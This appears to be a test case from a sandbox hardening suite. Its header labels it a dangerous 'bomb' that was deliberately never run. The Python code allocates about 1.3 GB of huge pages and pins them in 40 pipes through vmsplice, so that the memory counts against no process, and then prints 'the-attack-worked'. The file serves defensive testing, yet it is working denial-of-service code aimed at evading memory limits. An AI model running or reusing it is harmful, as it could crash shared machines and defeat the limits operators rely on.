# intent: pages of two megabytes are put into pipes and let go of: each stays for its first bytes, and counts for no process
# family: bombs
# danger: yes
# stock: not run: it would take this machine down
# limits: memory_bytes=500_000_000 cell_seconds=20

# %%
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
kept, size = [], 2 << 20
for _ in range(40):  # 1,280 MB
    one, other = os.pipe()
    kept.append((one, other))
    area = mmap.mmap(-1, 17 * size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    area.madvise(mmap.MADV_HUGEPAGE)
    for at in range(0, len(area), 4096):
        area[at] = 1
    start = ctypes.addressof(ctypes.c_char.from_buffer(area))
    start += -start % size
    for page in range(16):
        piece = (ctypes.c_void_p * 2)(start + page * size, 1)
        if libc.vmsplice(other, piece, 1, 0) != 1:
            raise OSError(ctypes.get_errno(), "vmsplice")
print("the-attack" + "-worked")
